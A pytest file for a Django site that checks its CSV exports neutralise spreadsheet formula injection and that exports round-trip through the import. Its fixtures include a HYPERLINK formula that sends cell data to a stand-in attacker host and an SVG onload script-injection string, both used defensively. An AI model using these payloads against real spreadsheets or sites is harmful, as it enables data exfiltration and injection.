"""Issue 14, item 9: no CSV the site writes can hold a live spreadsheet formula.

One writer for the whole site (openlab.csvfile): text cells starting with =, +, -, @, a
tab or a carriage return (or an apostrophe) get an apostrophe in front; numbers stay
numbers; the stakeholder import reads our exports back unchanged.
"""

import csv
import io
import pathlib
import re

import pytest
from django.contrib.auth import get_user_model

from openlab import csvfile
from openlab.accounts.models import Role
from openlab.accounts.services import create_user, ensure_role_groups
from stakeholders.csv_io import COLUMNS, import_file, write_csv
from stakeholders.models import StakeholderPage
from tests.factories import EventFactory, StakeholderFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"詳しく")'
LIVE = ("=", "+", "-", "@", "\t", "\r")
ROOT = pathlib.Path(__file__).resolve().parents[2]


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


NUMBER = re.compile(r"-?\d+(\.\d+)?")  # a plain number: a spreadsheet reads it as one


def _assert_no_live_formula(text):
    live = [cell for cell in _cells(text) if cell.startswith(LIVE) and not NUMBER.fullmatch(cell)]
    assert not live, live


def test_no_csv_writer_outside_the_one_module():
    """Every CSV the site writes goes through openlab.csvfile."""
    offenders = []
    for app in ("openlab", "stakeholders", "projects", "events", "search"):
        for path in (ROOT / app).rglob("*.py"):
            if path.name == "csvfile.py" or "migrations" in path.parts:
                continue
            if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, offenders


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+81 42-000", "'+81 42-000"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("'quoted", "''quoted"),
        ("団体", "団体"),
        ("a=b", "a=b"),
        (-139.5, -139.5),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise_and_restore(value, written):
    assert csvfile.neutralise(value) == written
    if isinstance(value, str):
        assert csvfile.restore(written) == value


def test_restore_reads_a_hand_written_apostrophe_as_it_is():
    assert csvfile.restore("'><svg onload=alert(1)>") == "'><svg onload=alert(1)>"
    assert csvfile.restore("'団体") == "'団体"


@pytest.mark.django_db
def test_admin_stakeholder_export_holds_no_live_formula(client, site_tree):
    ensure_role_groups()
    user = create_user("fa", "fa@example.jp", "pw-Openlab-1", Role.FACILITATOR)
    StakeholderFactory(title=FORMULA, email="-private@example.jp", email_public=False)
    StakeholderFactory(title="@everyone 団体", website="https://example.jp/")
    client.force_login(get_user_model().objects.get(pk=user.pk))
    response = client.get("/admin/stakeholders/export/?private=1")
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    _assert_no_live_formula(text)
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert {row["name"] for row in rows} == {"'" + FORMULA, "'@everyone 団体"}
    assert "'-private@example.jp" in {row["email"] for row in rows}


@pytest.mark.django_db
def test_open_data_csv_neutralises_text_and_keeps_numbers(client, site_tree):
    StakeholderFactory(title="+プラス団体")
    EventFactory(title="-マイナスの集い", latitude="-33.868800", longitude="-151.209300")
    for slug in ("stakeholders", "events"):
        response = client.get(f"/opendata/{slug}.csv")
        _assert_no_live_formula(b"".join(response.streaming_content).decode("utf-8"))
    response = client.get("/opendata/events.csv")
    raw = b"".join(response.streaming_content).decode("utf-8")
    row = next(csv.DictReader(io.StringIO(raw.lstrip("\ufeff"))))
    assert row["title"] == "'-マイナスの集い"
    assert float(row["longitude"]) == -151.2093  # a number, not neutralised text
    assert float(row["latitude"]) == -33.8688


@pytest.mark.django_db
def test_the_import_reads_an_export_back_unchanged(site_tree):
    names = ["=1+1 の会", "-ハイフン団体", "@あっと団体", "ふつうの団体"]
    rows = [f'"{name}",npo,11,,,,,,,,false,説明' for name in names]
    text = "\r\n".join([",".join(COLUMNS), *rows]) + "\r\n"
    report = import_file(text.encode("utf-8"))
    assert len(report.created) == 4
    page = StakeholderPage.objects.get(title="ふつうの団体")
    page.title = "'引用符で始まる団体"
    page.save_revision().publish()

    exported = io.StringIO()
    write_csv(exported, private=True)
    _assert_no_live_formula(exported.getvalue())
    again = import_file(exported.getvalue().encode("utf-8"))
    assert len(again.unchanged) == 4 and not again.created and not again.updated
    assert set(StakeholderPage.objects.values_list("title", flat=True)) == {
        *names[:3],
        "'引用符で始まる団体",
    }
